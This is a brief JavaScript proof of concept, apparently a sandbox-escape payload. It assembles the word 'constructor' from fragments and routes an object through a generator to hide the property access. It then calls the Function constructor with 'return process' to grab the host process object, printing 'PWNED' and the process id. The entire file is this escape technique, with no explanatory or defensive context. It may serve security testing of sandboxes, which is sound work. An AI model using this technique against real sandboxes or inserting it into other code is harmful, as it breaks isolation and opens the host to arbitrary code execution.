'use strict';
const w = ['con', 'structor'].join('');
const t = { go: (f) => f[w] };
t.go({});
const fn = (x) => x;
function* g() { const got = yield 1; yield got; }
const it = g();
it.next();
const o = Date.now() > 1 ? it.next(t).value : {};
console.log('PWNED', o.go(fn)('return process')().pid);
